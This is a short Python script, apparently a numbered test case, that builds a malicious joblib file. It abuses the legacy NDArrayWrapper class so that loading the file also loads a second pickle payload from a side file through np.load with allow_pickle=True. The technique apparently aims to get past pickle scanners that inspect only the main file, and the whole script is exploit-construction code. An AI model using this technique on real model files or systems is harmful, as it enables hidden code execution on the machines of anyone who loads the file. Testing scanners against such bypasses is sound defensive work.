from mk import *
import pickle, os
# Legacy NDArrayWrapper: joblib calls np.load(os.path.join(dirname, self.filename), allow_pickle=True)
write('side.bin', b'\x80\x02'+PAYLOAD+b'.')   # any pickle elsewhere on disk
st = b'}('+U('filename')+U('side.bin')+U('subclass')+G('numpy','ndarray')+U('allow_mmap')+b'\x89u'
data = b'\x80\x02'+G('joblib.numpy_pickle_compat','NDArrayWrapper')+b')\x81'+st+b'b.'
check('x10.joblib', data)
